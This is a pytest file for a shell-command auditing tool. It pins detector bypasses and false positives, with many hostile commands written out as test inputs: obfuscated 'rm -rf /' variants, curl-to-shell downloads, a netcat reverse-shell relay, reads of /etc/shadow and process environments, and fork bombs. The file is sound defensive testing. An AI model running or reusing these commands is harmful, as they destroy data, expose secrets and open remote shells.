"""Bypasses and false positives found by the corpus, the fuzzers and the bash
oracle, each pinned by name (the corpus holds the same cases)."""

from __future__ import annotations

import pytest
from audit_helpers import rule_ids, verdict

from audit import Decision


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        pytest.param('perl -I lib -e "$(curl -s u)"', "EX003", id="perl -I takes a separate value"),
        pytest.param("sh -c 'rm -rf \"$1\"' _ /", "FS001", id="positional parameters of a -c string"),
        pytest.param("sh -c '\"$@\"' _ rm -rf /", "FS001", id='"$@" of a -c string runs its arguments'),
        pytest.param("find . -exec $(curl -s u) {} \\;", "CP001", id="a download names the command find runs"),
        pytest.param("runuser -l app -c 'rm -rf /'", "FS001", id="runuser takes options after the user"),
        pytest.param("bash <(echo 'rm -rf /')", "FS001", id="a script printed by echo is audited"),
        pytest.param("source <(printf 'curl -s u | sh')", "EX001", id="a sourced script printed by printf is audited"),
        pytest.param("curl -s u | sudo su", "EX001", id="su without -c starts a shell reading the pipe"),
        pytest.param("while read -r c; do $c; done < <(curl -s u)", "TA001", id="a loop's redirect feeds its reads"),
        pytest.param('mapfile -t lines < <(curl -s u); "${lines[0]}"', "TA001", id="mapfile taints the array"),
        pytest.param("cat ../../../../../../etc/shadow", "SE001", id="deep relative climb into /etc"),
        pytest.param("time (rm -rf /)", "FS001", id="time before a subshell"),
        pytest.param("time { rm -rf /; }", "FS001", id="time before a group"),
        pytest.param('echo "${arr[$(rm -rf /)]}"', "FS001", id="substitution in an array subscript"),
        pytest.param("echo ${#arr[`rm -rf /`]}", "FS001", id="backquotes in a length subscript"),
        pytest.param("echo `echo a` `rm -rf /`", "FS001", id="two backquoted substitutions in one command"),
        pytest.param("echo `true``rm -rf /`", "FS001", id="adjacent backquoted substitutions"),
        pytest.param("while [ 1 ]; do sh & done", "DO002", id="a constant test is an endless loop"),
        pytest.param("rm -rf ~root", "FS001", id="another user's home"),
        pytest.param('echo data > "/dev/tcp/$HOST/80"', "NE001", id="/dev/tcp with a run-time host"),
        pytest.param(
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "NE002", id="the fifo relay"
        ),
        pytest.param("cat /proc/$$/environ", "SE002", id="a run-time pid in /proc"),
        pytest.param('env LD_PRELOAD="$PWD/hook.so" id', "SY007", id="env assignment with a run-time value"),
        pytest.param("cd / && rm -rf *", "FS001", id="a relative glob after cd /"),
        pytest.param("curl -so t https://x/t && ./t", "EX009", id="curl -o inside a short option cluster"),
        pytest.param(
            "echo cm0gLXJmIH4= | base64 -d > x.sh; . ./x.sh", "EX009", id="a decoded file that a pipeline stage wrote"
        ),
        pytest.param("bash -c 'true; set -- rm -rf /; \"$@\"'", "FS001", id="set -- inside a code string"),
        pytest.param("(( $(curl -s u) > 0 ))", "EX010", id="arithmetic evaluates a downloaded operand"),
        pytest.param(
            "a=(x); echo x | base64 -d | bash 2>&1 | tee log", "EX001", id="redirect on a middle pipeline stage"
        ),
        pytest.param("$(echo rm) -rf /", "FS001", id="echo in command position"),
        pytest.param("IFS=,; cmd=rm,-rf,/; $cmd", "FS001", id="field splitting on a custom IFS"),
        pytest.param("alias ls='rm -rf /'", "FS001", id="an alias value is code"),
        pytest.param("find / -type f -delete", "FS001", id="find -delete of everything"),
    ],
)
def test_pinned_bypass_is_caught(command: str, rule: str) -> None:
    result = verdict(command)
    assert rule in {f.rule_id for f in result.findings}, result.to_dict()


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("rm -rf ./~", id="a directory literally named ~"),
        pytest.param('rm -rf "~"', id="quoted tilde"),
        pytest.param('rm -rf ~"/"', id="a quoted slash keeps the tilde literal"),
        pytest.param("rm -rf \\~", id="escaped tilde"),
        pytest.param("env FOO=$BAR make", id="env assignment with a run-time value is no command"),
        pytest.param("env V=$(curl -s u) make", id="env assignment value is a value position"),
        pytest.param("kill -0 -1", id="signal 0 only checks"),
        pytest.param("rm -rf *", id="a relative glob while the directory is unknown"),
        pytest.param("cat *", id="cat of a relative glob is no secret read"),
        pytest.param("cat /etc/$f", id="a run-time file name in /etc is not assumed to be shadow"),
        pytest.param("while [ -f x ]; do sh & done", id="a real test condition is not endless"),
        pytest.param("bash <(echo ls)", id="a printed harmless script"),
        pytest.param("sh -c 'f() { rm -rf \"$1\"; }; f build' _ /", id="a function's $1 is not the script's"),
        pytest.param("bash <(echo 'bash -c '\\''[[ -n $(curl -s t1) ]]'\\''')", id="quoted [[ in a mixed-quote word"),
        pytest.param('cat > notes.txt <<< "first line"', id="a here-string after a file redirect"),
    ],
)
def test_pinned_false_positive_stays_quiet(command: str) -> None:
    result = verdict(command)
    assert result.decision is not Decision.BLOCK, result.to_dict()
    assert not rule_ids(command) & {"FS001", "SE001", "DO002", "DO003", "CP002", "CP001"}


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("cd /tmp && 0</dev/null rm -rf /", id="descriptor-0 redirect inside a list"),
        pytest.param("true && rm 2>/dev/null -rf /", id="words after a redirect inside a list"),
        pytest.param("ls | sort 2>/dev/null -r | rm -rf /", id="words after a redirect inside a pipeline"),
    ],
)
def test_redirect_repairs_reach_commands_inside_lists_and_pipelines(command: str) -> None:
    assert "FS001" in rule_ids(command)


def test_a_lone_descriptor_redirect_is_not_a_command() -> None:
    assert [record.argv for record in verdict("0<&196; ls").commands] == [("ls",)]


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("""f() { "$0" -c 'rm -rf /'; }; f x""", id="in a function called with arguments"),
        pytest.param("""bash -c '$0 -c "rm -rf /"'""", id="in bash -c without arguments"),
        pytest.param("""$0 -c 'rm -rf /'""", id="on the command line"),
    ],
)
def test_dollar_zero_is_the_shell_not_the_function(command: str) -> None:
    # A function call bound $0 to the function's name, and $0 of the command line was unknown.
    assert "FS001" in rule_ids(command)


@pytest.mark.parametrize(
    ("command", "bomb"),
    [
        pytest.param("f() { ${FUNCNAME} & ${FUNCNAME} & }; f", True, id="FUNCNAME in braces"),
        pytest.param("g() { h | h & }; h() { g; }; g", True, id="a cycle through two functions"),
        pytest.param("a() { b & }; b() { c; }; c() { a; a; }; a", True, id="a cycle through three functions"),
        pytest.param("g() { h & }; h() { i; }; i() { echo done; }; g", False, id="a chain without a cycle"),
        pytest.param("g() { h; }; h() { g; }; g", False, id="a cycle in the foreground"),
        pytest.param('g() { echo "$FUNCNAME" | tee log; }; g', False, id="FUNCNAME as data in a pipe"),
    ],
)
def test_functions_that_start_one_another_in_a_cycle_are_a_fork_bomb(command: str, bomb: bool) -> None:
    assert ("DO001" in rule_ids(command)) is bomb
